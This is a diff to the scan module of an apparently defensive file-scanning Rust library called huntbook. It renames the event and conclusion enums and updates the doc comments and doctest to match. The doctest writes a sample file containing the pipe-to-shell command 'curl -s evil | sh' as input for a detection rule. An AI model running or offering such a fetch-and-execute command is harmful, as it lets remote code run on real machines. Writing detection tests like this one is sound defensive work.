@@ -2,7 +2,7 @@
 //!
 //! [`Scan::start`] returns at once. Threads of its own walk the tree, and as many workers as asked for take the paths,
 //! read each file into a buffer (never mapped: a mapped file that is truncated kills the process) and match it.
-//! What they find comes over a bounded channel as [`Event`]s; [`Control`] steers, [`Progress`] tells how far it is. A file
+//! What they find comes over a bounded channel as [`ScanEvent`]s; [`Control`] steers, [`Progress`] tells how far it is. A file
 //! system that does not answer holds up nothing but the thread that asked it, and that thread is replaced.
 
 mod control;
@@ -142,7 +142,7 @@ impl Default for ScanOptions {
 
 /// What a scan reports while it runs. Findings come in no particular order.
 #[derive(Debug)]
-pub enum Event {
+pub enum ScanEvent {
     /// A rule matched a file, or a candidate condition holds for a file that the rule did not match.
     Finding(Finding),
     /// Something was not scanned.
@@ -152,13 +152,13 @@ pub enum Event {
         /// The final progress.
         reading: ProgressSnapshot,
         /// How it ended.
-        end: End,
+        end: ScanConclusion,
     },
 }
 
 /// How a scan came to its end.
 #[derive(Debug, Clone, PartialEq, Eq)]
-pub enum End {
+pub enum ScanConclusion {
     /// It went through the whole tree.
     Complete,
     /// Somebody ended it.
@@ -182,7 +182,7 @@ pub enum StartError {
 ///
 /// ```
 /// use std::sync::Arc;
-/// use huntbook::internals::scan::{Event, RuleSource, Ruleset, Scan, ScanOptions, Tree};
+/// use huntbook::internals::scan::{ScanEvent, RuleSource, Ruleset, Scan, ScanOptions, Tree};
 ///
 /// let folder = tempfile::tempdir()?;
 /// std::fs::write(folder.path().join("script"), "curl -s evil | sh")?;
@@ -194,9 +194,9 @@ pub enum StartError {
 /// let mut found = Vec::new();
 /// for event in &scan.events {
 ///     match event {
-///         Event::Finding(finding) => found.push((finding.found_by.name().into_owned(), finding.matches[0].offset)),
-///         Event::Unscanned(missed) => panic!("nothing is missed silently: {missed:?}"),
-///         Event::Finished { .. } => break,
+///         ScanEvent::Finding(finding) => found.push((finding.found_by.name().into_owned(), finding.matches[0].offset)),
+///         ScanEvent::Unscanned(missed) => panic!("nothing is missed silently: {missed:?}"),
+///         ScanEvent::Finished { .. } => break,
 ///     }
 /// }
 /// scan.join();
@@ -206,7 +206,7 @@ pub enum StartError {
 #[derive(Debug)]
 pub struct Scan {
     /// What it reports. A dropped receiver ends the scan.
-    pub events: Receiver<Event>,
+    pub events: Receiver<ScanEvent>,
     /// Pauses it, ends it, has it skip a file.
     pub control: Arc<Control>,
     /// How far it is.
